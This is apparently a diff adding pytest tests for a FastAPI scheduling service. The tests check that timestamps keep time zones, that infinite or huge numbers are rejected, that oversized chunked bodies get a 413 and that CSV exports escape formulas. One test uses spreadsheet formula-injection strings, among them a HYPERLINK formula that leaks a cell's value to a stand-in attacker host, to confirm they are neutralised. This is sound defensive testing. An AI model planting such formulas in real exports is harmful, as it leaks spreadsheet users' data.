@@ -1,0 +1,141 @@
+"""Hostile input to the service: bodies, exports and timestamps (issue 17)."""
+
+import csv
+import io
+import json
+from collections.abc import Iterator
+from datetime import datetime
+from pathlib import Path
+from typing import Any
+
+import pytest
+from fastapi.testclient import TestClient
+
+from api.app import create_app
+from api.csvcells import cell
+from api.settings import Settings
+
+TUTORIAL: dict[str, Any] = json.loads(
+    (Path(__file__).resolve().parent.parent / "scenarios" / "tutorial.json").read_text())
+
+
+@pytest.fixture
+def client(database_url: str) -> Iterator[TestClient]:
+    settings = Settings(database_url=database_url, max_body_bytes=200_000, require_keys=False,
+                        solve_workers=1)
+    with TestClient(create_app(settings)) as c:
+        yield c
+
+
+def _moments(body: Any) -> Iterator[str]:
+    """Every string value of a JSON body under a key naming a moment (`at`, `*_at`)."""
+    if isinstance(body, dict):
+        for key, value in body.items():
+            if isinstance(value, str) and (key == "at" or key.endswith("_at")):
+                yield value
+            else:
+                yield from _moments(value)
+    elif isinstance(body, list):
+        for item in body:
+            yield from _moments(item)
+
+
+def test_timestamps_read_back_carry_a_time_zone(client: TestClient) -> None:
+    """Moments read back from the database (SQLite keeps no zone) still carry one, as the
+    declared date-time format requires: scenarios, jobs, rosters and the audit trail."""
+    sid = client.post("/scenarios", json=TUTORIAL).json()["id"]
+    job = client.post("/jobs", json={"scenario_id": sid, "seconds": 2}).json()
+    client.app.state.runner.wait_for(job["id"], {"done"}, 60)  # type: ignore[attr-defined]
+    roster_id = client.get(f"/jobs/{job['id']}").json()["roster_id"]
+    bodies = [client.get(url).json() for url in (
+        f"/scenarios/{sid}", "/scenarios", f"/jobs/{job['id']}", f"/rosters/{roster_id}",
+        "/audit")]
+    moments = [m for body in bodies for m in _moments(body)]
+    assert len(moments) >= 6
+    for moment in moments:
+        assert datetime.fromisoformat(moment).tzinfo is not None, moment
+
+
+def _raw_post(client: TestClient, url: str, text: str) -> Any:
+    """POST a JSON text as it is: Infinity and 1e309 are what a hostile client can send."""
+    return client.post(url, content=text.encode(), headers={"content-type": "application/json"})
+
+
+@pytest.mark.parametrize(("where", "value", "path", "ident"), [
+    ("capacity", "Infinity", "prosecutors[0].capacity", "wang"),
+    ("capacity", "1e309", "prosecutors[0].capacity", "wang"),
+    ("capacity", "NaN", "prosecutors[0].capacity", "wang"),
+    ("priority", "1e30", "cases[0].priority", "fraud"),
+    ("travel", "1e300", "policy.weights.travel", None),
+    ("minutes", "1e12", "roads[0].minutes", "hailar-ewenki"),
+])
+def test_huge_or_infinite_numbers_are_refused_with_the_field_path(
+        client: TestClient, where: str, value: str, path: str, ident: str | None) -> None:
+    """A non-finite or out-of-range number anywhere in a scenario is a 422 naming the
+    field and the item's id; nothing is stored (before, it was stored, and every solve of
+    it failed with an OverflowError)."""
+    data = json.loads(json.dumps(TUTORIAL))
+    marker = 123456.789
+    if where == "capacity":
+        data["prosecutors"][0]["capacity"] = marker
+    elif where == "priority":
+        data["cases"][0]["priority"] = marker
+    elif where == "travel":
+        data["policy"] = {"weights": {"travel": marker}}
+    else:
+        data["roads"] = [{"a": "hailar", "b": "ewenki", "minutes": marker}]
+    answer = _raw_post(client, "/scenarios", json.dumps(data).replace(str(marker), value))
+    assert answer.status_code == 422, answer.text
+    assert any(p["path"] == path and p["id"] == ident for p in answer.json()["errors"]), \
+        answer.json()["errors"]
+    assert client.get("/scenarios").json()["total"] == 0
+
+
+@pytest.mark.parametrize(("field", "value"), [("seed", "1180591620717411303424"),
+                                              ("seed", "-1"), ("seconds", "Infinity"),
+                                              ("seconds", "NaN")])
+def test_solve_requests_with_numbers_out_of_range_are_422(client: TestClient, field: str,
+                                                          value: str) -> None:
+    """A seed beyond CP-SAT's 32 bits (2**70) or a non-finite time limit is refused with
+    the field's path, not accepted and failed later."""
+    sid = client.post("/scenarios", json=TUTORIAL).json()["id"]
+    body = json.dumps({"scenario_id": sid, field: 7}).replace(": 7", f": {value}")
+    answer = _raw_post(client, "/jobs", body)
+    assert answer.status_code == 422, answer.text
+    assert [p["path"] for p in answer.json()["errors"]] == [field]
+
+
+def test_oversize_body_sent_in_chunks_is_413(client: TestClient) -> None:
+    """A body over max_body_bytes sent chunked, without Content-Length, gets 413 like a
+    declared one (before, the app's body reader turned the cut-off into a 400)."""
+
+    def chunks() -> Iterator[bytes]:
+        yield b'{"name": "'
+        for _ in range(40):
+            yield b"x" * 10_000
+        yield b'"}'
+
+    answer = client.post("/scenarios", content=chunks(),
+                         headers={"content-type": "application/json"})
+    assert answer.status_code == 413, answer.text
+    assert answer.headers["content-type"] == "application/problem+json"
+    assert client.get("/scenarios").json()["total"] == 0
+
+
+def test_csv_export_escapes_cells_a_spreadsheet_would_run(client: TestClient) -> None:
+    """A reason of '=HYPERLINK(...)' (or starting with +, - or @) is exported with a
+    leading apostrophe, so a spreadsheet shows it as text instead of running it."""
+    reasons = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
+               "plain"]
+    for reason in reasons:
+        client.post("/scenarios", json=TUTORIAL, params={"reason": reason})
+    rows = list(csv.DictReader(io.StringIO(client.get("/audit/export.csv").text)))
+    assert [r["reason"] for r in rows] == ["'" + r for r in reasons[:-1]] + ["plain"]
+    assert all(not r["actor"].startswith(("=", "+", "-", "@")) for r in rows)
+
+
+def test_csv_cells_keep_numbers_and_plain_text() -> None:
+    """Only text that would start a formula is changed: numbers (negative ones too), None
+    and ordinary text are written as they are (batch's assignments.csv uses the same)."""
+    assert [cell(v) for v in (-3, 2.5, None, "Wang Lei", "=1", "\tx")] == [
+        -3, 2.5, None, "Wang Lei", "'=1", "'\tx"]
